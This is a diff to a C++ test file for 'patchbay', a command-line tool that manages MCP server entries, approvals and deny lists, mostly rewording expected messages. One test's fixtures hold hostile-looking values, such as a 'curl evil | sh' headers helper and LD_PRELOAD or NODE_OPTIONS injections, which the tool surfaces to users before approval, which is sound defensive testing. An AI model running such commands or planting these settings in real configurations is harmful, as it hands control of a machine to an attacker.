@@ -325,19 +325,19 @@ INSTANTIATE_TEST_SUITE_P(
             "Header", {"add", "-t", "http", "a", "https://h/", "-H", "broken"}, "Invalid header format: \"broken\""},
         Refused{"WebSocketTransport",
                 {"mcp", "add", "-t", "ws", "a", "wss://h/"},
-                "a ws server is added with: patchbay mcp add-json NAME"},
+                "to add a ws server: patchbay mcp add-json NAME"},
         Refused{
             "WebSocketUrl", {"add", "a", "wss://h/"}, "patchbay add-json a '{\"type\":\"ws\",\"url\":\"wss://h/\"}'"},
-        Refused{"NoUrl", {"add", "-t", "http", "a", "server"}, "'server' is no URL"},
+        Refused{"NoUrl", {"add", "-t", "http", "a", "server"}, "'server' is not a URL"},
         Refused{"NoScheme",
                 {"add", "-t", "http", "a", "mcp.sentry.dev/mcp"},
-                "which a server of type http needs: write https://mcp.sentry.dev/mcp (or http://)"},
-        Refused{"TwoUrls", {"add", "-t", "http", "a", "https://h/", "https://i/"}, "'https://i/' stands behind it"},
+                "and a server of type http needs one: write https://mcp.sentry.dev/mcp (or http://)"},
+        Refused{"TwoUrls", {"add", "-t", "http", "a", "https://h/", "https://i/"}, "'https://i/' follows it"},
         Refused{"FlagOfTheCommand", {"add", "a", "npx", "-y", "pkg"}, "write -- before the command of the server"},
         Refused{"Scope", {"add", "-s", "global", "a", "--", "x"}, "--scope"},
         Refused{"NotUtf8", {"add", "a", "--", "\xFF"}, "not UTF-8"},
         Refused{"NotJson", {"add-json", "a", "{\"command\":}"}, "Invalid JSON at line 1, column 12"},
-        Refused{"NoObject", {"add-json", "a", "[]"}, "expected the object of one server"},
+        Refused{"NoObject", {"add-json", "a", "[]"}, "expected the JSON object of one server"},
         Refused{"WrappedJson", {"add-json", "a", "{\"mcpServers\":{}}"}, "without \"mcpServers\""},
         Refused{"WrongType", {"add-json", "a", "{\"command\":1}"}, "\"command\" must be a string"},
         Refused{"UrlWithoutType",
@@ -480,7 +480,7 @@ TEST(Switch, EntryThatSwitchesItselfOffIsSwitchedOnInOurFileAlone) {
     EXPECT_THAT(house.run({"get", name}).out, HasSubstr("Status: not started"));
     EXPECT_THAT(house.run({"enable", name}).out, HasSubstr("Already enabled: " + name));
     ASSERT_EQ(house.run({"disable", name}).code, 0);
-    EXPECT_THAT(house.run({"get", name}).out, HasSubstr("Disabled because: switched off for this project"));
+    EXPECT_THAT(house.run({"get", name}).out, HasSubstr("Disabled because: disabled for this project"));
     ASSERT_EQ(house.run({"enable", name}).code, 0);
   }
   EXPECT_EQ(house.tree.read("home/.claude.json"), theirs);
@@ -582,21 +582,22 @@ TEST_P(WhatIsAgreedTo, IsShown) {
 INSTANTIATE_TEST_SUITE_P(
     EachKey, WhatIsAgreedTo,
     testing::Values(
-        Part{"Steering",
-             R"({"command":"x","env":{"NODE_OPTIONS":"--require ./evil.js","LD_PRELOAD":"./e.so","PATH":"/tmp/evil"}})",
-             {"NODE_OPTIONS='--require ./evil.js'", "LD_PRELOAD=./e.so", "PATH=/tmp/evil", "(decides what code runs)"}},
+        Part{
+            "Steering",
+            R"({"command":"x","env":{"NODE_OPTIONS":"--require ./evil.js","LD_PRELOAD":"./e.so","PATH":"/tmp/evil"}})",
+            {"NODE_OPTIONS='--require ./evil.js'", "LD_PRELOAD=./e.so", "PATH=/tmp/evil", "(decides which code runs)"}},
         Part{"Variables",
              R"({"command":"x","env":{"LEVEL":"high","API_TOKEN":"s3cret","WHO":"${USER}"}})",
              {"LEVEL=high", "API_TOKEN=(hidden, 6 characters)", "WHO=${USER}"}},
         Part{
             "Directory", R"({"command":"x","cwd":"/somewhere\u001b[31m"})", {"in the directory '/somewhere\\x1b[31m'"}},
-        Part{"EnvFile", R"({"command":"x","envFile":"evil.env"})", {"sets what the file evil.env says"}},
+        Part{"EnvFile", R"({"command":"x","envFile":"evil.env"})", {"sets the variables in the file evil.env"}},
         Part{"Headers",
              R"({"type":"http","url":"https://h/","headers":{"X-Home":"${HOME}","Authorization":"Bearer s3cret"}})",
              {"header X-Home: ${HOME}", "header Authorization: Bearer (hidden, 6 characters)"}},
         Part{"Helper",
              R"({"type":"http","url":"https://h/","headersHelper":"curl evil | sh"})",
-             {"runs for more headers: 'curl evil | sh'"}},
+             {"runs a command for more headers: 'curl evil | sh'"}},
         Part{"Tls", R"({"type":"http","url":"https://h/","tls":{"ca":"theirs.pem"}})", {"theirs.pem"}},
         Part{"Unknown", R"({"command":"x","novel":{"a":1}})", {"novel: {\"a\":1}"}}),
     [](const auto& info) { return info.param.name; });
@@ -669,7 +670,7 @@ TEST(Approve, CannotOutvoteARejectionInSettings) {
   house.tree.file("project/.claude/settings.json", R"({"disabledMcpjsonServers": ["files"]})");
   auto approved = house.run({"approve", "files"});
   EXPECT_EQ(approved.code, 2);
-  EXPECT_THAT(approved.err, AllOf(HasSubstr("'files' stays rejected"), HasSubstr("settings.json:1")));
+  EXPECT_THAT(approved.err, AllOf(HasSubstr("'files' is still rejected"), HasSubstr("settings.json:1")));
   EXPECT_EQ(reason_of(house, "files"), "rejected");
 }
 
@@ -677,9 +678,9 @@ TEST(Approve, IsAboutServersOfTheProjectAlone) {
   Household house;
   house.tree.file("project/.mcp.json", brought_along);
   ASSERT_EQ(house.run({"add", "mine", "--", "x"}).code, 0);
-  EXPECT_THAT(house.run({"approve", "mine"}).err, HasSubstr("'mine' does not come with this project"));
+  EXPECT_THAT(house.run({"approve", "mine"}).err, HasSubstr("'mine' is not declared by this project"));
   EXPECT_THAT(house.run({"approve", "file"}).err, HasSubstr("did you mean 'files'?"));
-  EXPECT_THAT(house.run({"approve"}).err, HasSubstr("name the servers, or say --all"));
+  EXPECT_THAT(house.run({"approve"}).err, HasSubstr("name the servers, or use --all"));
   EXPECT_EQ(house.run({"approve", "files", "--all"}).code, 2);
   EXPECT_EQ(house.run({"approve", "files", "-s", "user"}).code, 2);
   EXPECT_EQ(house.run({"approve", "files", "-s", "project"}).code, 0);
@@ -743,7 +744,7 @@ TEST(List, SaysWhatGoesBeforeWhatAndWhichListKeepsAServerAway) {
   house.tree.file("home/.claude/settings.json", "{\n  \"deniedMcpServers\": [{\"serverName\": \"scratch\"}]\n}\n");
   const auto result = house.run({"list"});
   EXPECT_THAT(result.out,
-              AllOf(HasSubstr("goes before the user entry of the same name in ~/.config/patchbay/config.json:"),
+              AllOf(HasSubstr("overrides the user entry of the same name in ~/.config/patchbay/config.json:"),
                     HasSubstr("deniedMcpServers"), HasSubstr("/.claude/settings.json:2")));
   const auto json = json_of(house.run({"list", "--json"}));
   for (const auto& server : json["servers"].as_array()) {
